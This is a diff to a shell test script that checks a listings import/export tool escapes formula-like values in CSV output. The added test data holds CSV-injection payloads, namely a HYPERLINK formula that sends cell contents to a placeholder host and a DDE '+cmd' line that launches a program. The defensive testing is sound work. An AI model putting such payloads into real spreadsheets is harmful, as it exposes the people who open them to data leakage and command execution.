@@ -4,6 +4,11 @@
 . "$(dirname "$0")/lib.sh"
 a="$T/a.db"
 "$DUIJIE" import --db "$a" "$FIX/orgs.csv" "$FIX/listings.csv" >/dev/null || { not_ok "fixture import"; exit 1; }
+# values a spreadsheet would run as formulas: exported with an apostrophe in
+# front (text in Excel), imported back as they were
+for t in '=HYPERLINK("http://x/?"&A1,"点击")' "+cmd|' /C calc'!A0" "-40℃耐寒材料" "'=已有撇号"; do
+    expect_exit "listing titled $t" 0 "$DUIJIE" listing add --db "$a" "标题=$t" 机构=桂林电子科技大学 供需=供给 类别=技术成果 "内容=@SUM(1+1) $t"
+done
 
 for fmt in gbk csv jsonl; do
     ext=csv; [ "$fmt" = jsonl ] && ext=jsonl
@@ -15,6 +20,10 @@ for fmt in gbk csv jsonl; do
         iconv -f GB18030 -t UTF-8 "$T/$fmt/orgs.csv" | grep -q 桂林电子科技大学 && ok "gbk: file is GB18030" || not_ok "gbk: file is GB18030"
     fi
     if [ "$fmt" = csv ]; then
+        grep -qF "\"'=HYPERLINK(\"\"http" "$T/$fmt/listings.csv" && grep -qF "'-40℃" "$T/$fmt/listings.csv" \
+            && grep -qF "''=已有撇号" "$T/$fmt/listings.csv" && grep -qF "'@SUM" "$T/$fmt/listings.csv" \
+            && ok "csv: formula-like values start with an apostrophe" \
+            || not_ok "csv: formula-like values start with an apostrophe" "$(grep -F SUM "$T/$fmt/listings.csv" | head -3)"
         head -c 3 "$T/$fmt/orgs.csv" | od -An -tx1 | grep -q "ef bb bf" && ok "csv: starts with a UTF-8 BOM" || not_ok "csv: starts with a UTF-8 BOM"
     fi
     b="$T/$fmt.db"
